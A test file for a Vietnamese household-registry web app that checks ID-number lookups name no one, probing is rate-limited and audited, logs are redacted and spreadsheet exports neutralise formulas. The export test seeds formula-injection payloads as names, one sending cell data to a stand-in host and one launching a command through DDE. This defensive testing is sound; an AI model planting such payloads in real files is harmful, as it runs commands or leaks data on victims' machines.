// Issue 19, "no oracles, everything traced", through HTTP on both engines: a CCCD held outside
// the caller's area names nobody on any path and answers the same whoever holds it; those
// checks are audited even when the write is refused and limited per account; refusals are in
// the audit log; reading the log is logged; the request log holds no ID number; exported cells
// never run as formulas.
import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CCCD_PROBE_LIMIT } from '../../src/server/features/audit/cccd-probes.ts';
import { redactUrl } from '../../src/server/logger.ts';
import { spreadsheetText, unquoteSpreadsheetText } from '../../src/server/lib/spreadsheet-safe.ts';
import { sheetFile, uploadBatch } from '../support/imports.ts';
import { loginAs } from '../support/login.ts';
import { type Client, type TestApp, createTestApp, makeHousehold } from '../support/test-app.ts';
import { describeEachEngine } from '../support/test-database.ts';

// Two people in the other commune (outside Bạch Ngọc's officer), in different households.
const OUTSIDE_1 = '008080000711';
const OUTSIDE_2 = '008085000722';
const NOWHERE = '008080000733';
const HEADER = ['STT', 'Họ và tên', 'Ngày sinh', 'Giới tính', 'Số CCCD', 'Quan hệ với chủ hộ', 'Số hộ'];

describeEachEngine('privacy: no oracles, everything traced', (engine) => {
  let t: TestApp;
  let admin: Client;
  let office: Client;
  let head: Client;
  const log: string[] = [];
  let outside: { personIds: string[] };

  beforeAll(async () => {
    const stream = new Writable({ write(chunk, _e, done) { log.push(...String(chunk).split('\n').filter(Boolean)); done(); } });
    t = await createTestApp(engine, { logStream: stream, config: { logLevel: 'info' } });
    [admin, office, head] = [await loginAs(t, t.usernames.admin), await loginAs(t, t.usernames.culture_office), await loginAs(t, t.usernames.village_head)];
    outside = await makeHousehold(t, t.org.villageC, [{ fullName: 'Hà Văn Xa', sex: 'male', birthYear: 1980, cccd: OUTSIDE_1 }]);
    await makeHousehold(t, t.org.villageC, [{ fullName: 'Triệu Thị Khác', sex: 'male', birthYear: 1985, cccd: OUTSIDE_2 }]);
  });
  afterAll(async () => { await t?.close(); });

  const auditRows = async (query: string) => {
    const res = await admin.get(`/api/audit?pageSize=200&${query}`);
    expect(res.status).toBe(200);
    return res.body.items as Array<{ action: string; entity: string; entityId: string | null; accountId: string | null; detail: any }>;
  };

  it('a save with a CCCD held outside the area names nobody, answers the same for every holder, and is audited though refused', async () => {
    const household = await makeHousehold(t, t.org.villageA, [{ fullName: 'Ma Văn Chủ', sex: 'male', birthYear: 1970 }]);
    const save = (cccd: string, birthYear: number) => office.post('/api/people', { householdId: household.householdId, fullName: 'Ma Văn Thử', sex: 'male', birthYear, relationToHead: 'child', cccd });
    const first = await save(OUTSIDE_1, 1980);
    const second = await save(OUTSIDE_2, 1985);
    expect(first.status).toBe(409);
    expect(second.body).toEqual(first.body);
    expect(JSON.stringify(first.body)).not.toMatch(/Hà Văn Xa|Triệu|Khuổi Vài|Minh Tân/);
    expect(first.body.error.message).toBe('Số CCCD này đã có trong hệ thống.');
    // Nothing of the refused write was kept; its CCCD check was, masked.
    const conflicts = await auditRows(`action=cccd_conflict&accountId=${office.me.id}`);
    expect(conflicts.map((r) => r.detail.cccd).sort()).toEqual(['0080******11', '0080******22']);
    expect(JSON.stringify(conflicts)).not.toContain(OUTSIDE_1);
  });

  it('a search by a CCCD held outside the area answers exactly as for a number nobody holds, and is audited', async () => {
    const held = await office.get(`/api/people?q=${OUTSIDE_1}&status=all`);
    const none = await office.get(`/api/people?q=${NOWHERE}&status=all`);
    expect(held.status).toBe(200);
    expect(held.body).toEqual(none.body);
    expect(held.body.total).toBe(0);
    const searches = await auditRows(`action=search&accountId=${office.me.id}`);
    expect(searches.filter((r) => r.detail.q === 'CCCD ***')).toHaveLength(2);
    expect(JSON.stringify(searches)).not.toContain(OUTSIDE_1);
  });

  it('an import preview names no one for a CCCD held outside, in the same words for every holder', async () => {
    const id = (await uploadBatch(office, await sheetFile('Nà Pồng', [
      HEADER,
      [1, 'Lò Văn Một', '1980', 'Nam', OUTSIDE_1, 'Chủ hộ', 81],
      [2, 'Lò Văn Hai', '1985', 'Nam', OUTSIDE_2, 'Chủ hộ', 82],
    ]))).id;
    const res = await office.get(`/api/imports/${id}/preview?pageSize=50`);
    expect(res.status).toBe(200);
    const messages = res.body.rows.items.map((r: { problems: Array<{ message: string }> }) => r.problems.map((p) => p.message).join(' | '));
    expect(messages).toEqual([
      'Dòng 2, cột «Số CCCD»: số CCCD này đã có trong hệ thống (của một nhân khẩu khác); kiểm tra lại số.',
      'Dòng 3, cột «Số CCCD»: số CCCD này đã có trong hệ thống (của một nhân khẩu khác); kiểm tra lại số.',
    ]);
    expect(JSON.stringify(res.body)).not.toMatch(/Hà Văn Xa|Triệu|Khuổi Vài|Minh Tân/);
    // The commit is refused for the same rows and names no one either.
    const commit = await office.post(`/api/imports/${id}/commit`);
    expect(commit.status).toBe(409);
    expect(JSON.stringify(commit.body)).not.toMatch(/Hà Văn Xa|Triệu|Khuổi Vài|Minh Tân/);
  });

  it('after too many refused CCCDs an account may check no more for a while; the refusal is audited', async () => {
    const prober = await loginAs(t, t.usernames.village_head);
    const household = await makeHousehold(t, t.org.villageA, [{ fullName: 'Sầm Văn Chủ', sex: 'male', birthYear: 1960 }]);
    const base = { householdId: household.householdId, fullName: 'Sầm Văn Dò', sex: 'male', birthYear: 1980, relationToHead: 'child', confirmWarnings: true };
    for (let i = 0; i < CCCD_PROBE_LIMIT.numbers; i++) {
      const cccd = `00808000${String(1000 + i).padStart(4, '0')}`;
      await makeHousehold(t, t.org.villageC, [{ fullName: `Người Xa ${i}`, cccd }]);
      expect((await prober.post('/api/people', { ...base, cccd })).status).toBe(409);
    }
    const blocked = await prober.post('/api/people', { ...base, cccd: NOWHERE });
    expect(blocked.status).toBe(429);
    expect(blocked.body.error.code).toBe('cccd_probe_limit');
    // A save without a CCCD still works.
    expect((await prober.post('/api/people', base)).status).toBe(201);
    const rows = await auditRows(`accountId=${prober.me.id}`);
    expect(rows.filter((r) => r.action === 'cccd_conflict')).toHaveLength(CCCD_PROBE_LIMIT.numbers);
    expect(rows.find((r) => r.action === 'refused')).toMatchObject({ entity: 'person', detail: { status: 429, code: 'cccd_probe_limit', method: 'POST', route: '/api/people' } });
  });

  it('writes refused requests to the audit log: 401, 403, 404 on a record, a CSRF failure', async () => {
    const anonymous = await t.app.inject({ method: 'GET', url: '/api/people', headers: { cookie: 'cnscd_session=forged' } });
    expect(anonymous.statusCode).toBe(401);
    expect((await head.get('/api/accounts')).status).toBe(403);
    expect((await head.get(`/api/people/${outside.personIds[0]}`)).status).toBe(404);
    const csrf = await t.app.inject({ method: 'POST', url: '/api/people', headers: { cookie: head.cookie, 'x-csrf-token': 'wrong' }, payload: { fullName: 'X' } });
    expect(csrf.statusCode).toBe(403);
    const mine = (await auditRows(`action=refused&accountId=${head.me.id}`)).map((r) => [r.entity, r.entityId, r.detail.status, r.detail.code]);
    expect(mine).toEqual(expect.arrayContaining([
      ['account', null, 403, 'forbidden'],
      ['person', outside.personIds[0], 404, 'not_found'],
      ['person', null, 403, 'csrf'],
    ]));
    const all = await auditRows('action=refused');
    expect(all.some((r) => r.accountId === null && r.detail.status === 401 && r.detail.route === '/api/people')).toBe(true);
  });

  it('reading the audit log is itself audited', async () => {
    await admin.get('/api/audit?entity=person&pageSize=5');
    const reads = await auditRows(`entity=audit_log&accountId=${admin.me.id}`);
    expect(reads.length).toBeGreaterThan(0);
    expect(reads.find((r) => r.detail.entity === 'person')).toMatchObject({ action: 'read', detail: { entity: 'person', pageSize: 5 } });
  });

  it('the request log holds no ID number, name or phone searched for', async () => {
    await office.get(`/api/people?q=${OUTSIDE_1}&page=1`);
    await office.get(`/api/people?q=${encodeURIComponent('Hà Văn Xa')}`);
    await office.get('/api/households?q=0912345678');
    const text = log.join('\n');
    expect(text).toContain('/api/people?q=~&page=1');
    for (const secret of [OUTSIDE_1, NOWHERE, OUTSIDE_2, '0912345678', 'H%C3%A0', 'Hà Văn']) expect(text).not.toContain(secret);
    expect(redactUrl('/api/x?villageId=3&q=008080000711&pageSize=20&phone=0912')).toBe('/api/x?villageId=3&q=~&pageSize=20&phone=~');
    expect(redactUrl('/api/x?from=008080000711')).toBe('/api/x?from=~');
  });

  describe('exports', () => {
    it('writes cells starting with = + - @ so that no spreadsheet runs them', async () => {
      await makeHousehold(t, t.org.villageA, [{ fullName: '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', sex: 'male', birthYear: 1990 }, { fullName: '@SUM(1+1)*cmd|/C calc!A0' }, { fullName: '+1+1' }, { fullName: '-2+3' }]);
      const response = await t.app.inject({ method: 'GET', url: '/api/people/export.xlsx', headers: { cookie: office.cookie } });
      expect(response.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const values: unknown[] = [];
      book.worksheets[0].eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
      const risky = values.filter((v) => typeof v === 'string' && /^'?[=+\-@]/.test(v));
      expect([...new Set(risky)].sort()).toEqual(["'+1+1", "'-2+3", "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"Bấm\")", "'@SUM(1+1)*cmd|/C calc!A0"]);
      expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
      expect(unquoteSpreadsheetText(spreadsheetText('=1+1'))).toBe('=1+1');
      expect(unquoteSpreadsheetText("'ordinary")).toBe("'ordinary");
    });
  });
});
